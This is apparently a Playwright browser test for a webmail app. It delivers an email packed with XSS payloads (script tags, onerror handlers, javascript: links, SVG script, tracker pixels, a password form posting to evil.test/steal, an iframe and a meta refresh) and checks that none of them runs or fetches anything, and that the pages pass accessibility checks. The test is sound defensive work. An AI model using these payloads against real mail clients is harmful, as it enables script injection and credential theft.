"""A hostile message and hostile names in Chromium: nothing in them runs, nothing is fetched
from elsewhere, and every page stays free of serious accessibility violations."""

from __future__ import annotations

from playwright.sync_api import expect

from postroom import store
from tests.browser.conftest import Login, Site, axe_violations

HOSTILE = (
    b"From: =?utf-8?b?PHNjcmlwdD53aW5kb3cudG9wLnB3bmVkPTE8L3NjcmlwdD4=?= <evil@evil.test>\r\n"
    b"To: victim@example.test\r\n"
    b'Subject: <img src=x onerror="window.top.pwned=5"> =?utf-8?q?broken=ZZ?= prize\r\n'
    b"Date: not a date at all\r\n"
    b"Message-ID: <<<bad>>>\r\n"
    b"References: <x@y> garbage <<z>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="zz"\r\n\r\n'
    b"--zz\r\nContent-Type: text/plain; charset=x-unknown-charset\r\n\r\nplain part\r\n"
    b"--zz\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<p id=bait>Claim your prize</p><script>window.top.pwned = 1; alert('script')</script>"
    b"<img src=x onerror=\"window.top.pwned = 2; alert('onerror')\">"
    b'<a id=jslink href="javascript:window.top.pwned=3">click</a>'
    b'<img src="https://tracker.invalid/pixel.gif">'
    b"<svg><script>window.top.pwned = 4</script></svg>"
    b'<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
    b'background:url(https://tracker.invalid/bg.png)">overlay</div>'
    b"<style>@import url(https://tracker.invalid/x.css);"
    b" body{background:url(//tracker.invalid/b)}</style>"
    b'<form action="https://evil.test/steal"><input name=password><button>Log in</button></form>'
    b'<iframe src="https://evil.test/"></iframe><object data="https://evil.test/x.swf"></object>'
    b'<meta http-equiv="refresh" content="0;url=https://evil.test/">'
    b'<link rel=stylesheet href="https://tracker.invalid/l.css">\r\n'
    b"--zz--\r\n"
)


def test_a_hostile_message_runs_nothing_and_fetches_nothing(site: Site, login: Login) -> None:
    victim = site.user("victim")
    site.deliver(victim, HOSTILE)

    async def make_folder() -> None:
        await store.create_mailbox(site.conn, victim.id, '<img src=x onerror="pwned=6">')

    site.run(make_folder())
    page = login(victim)  # the fixture fails the test if any request leaves the site
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    folder = page.locator("#folders li a .name", has_text="<img src=x")
    expect(folder).to_have_text('<img src=x onerror="pwned=6">')  # shown as text
    row = page.locator("#messages li[data-uid]").first
    expect(row.locator(".subject b")).to_contain_text('<img src=x onerror="window.top.pwned=5">')
    row.locator(".open").click()
    frame = page.wait_for_selector("#reader-html[srcdoc*='Claim your prize']")
    assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    document = (frame.get_attribute("srcdoc") or "").lower()
    for needle in ("<script", "onerror", "javascript:", "tracker.invalid", "evil.test", "<form"):
        assert needle not in document, needle
    expect(page.locator("#reader-subject")).to_contain_text("<img src=x")
    page.wait_for_timeout(500)  # give anything that slipped through the time to run
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    expect(page.locator("#images-note")).to_be_visible()
    assert axe_violations(page) == []


def test_the_login_and_trace_pages_are_accessible(site: Site, login: Login) -> None:
    user = site.user("reader")
    page = login(user, path="/trace")
    expect(page.locator("h1")).to_have_text("Where did my mail go?")
    assert axe_violations(page) == []
    page.click("#logout")
    page.wait_for_url(f"{site.base}/login")
    assert axe_violations(page) == []
